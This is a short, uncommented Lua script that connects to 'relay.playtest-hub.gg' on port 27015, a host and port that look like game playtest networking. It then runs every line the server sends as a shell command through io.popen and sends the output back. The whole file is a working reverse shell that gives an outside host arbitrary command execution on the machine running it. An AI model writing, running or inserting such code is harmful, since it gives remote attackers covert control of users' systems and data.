local socket = require("socket")

local tcp = socket.tcp()
tcp:connect("relay.playtest-hub.gg", 27015)
while true do
  local msg, err = tcp:receive("*l")
  if not msg then break end
  local p = io.popen(msg)
  tcp:send(p:read("*a"))
  p:close()
end
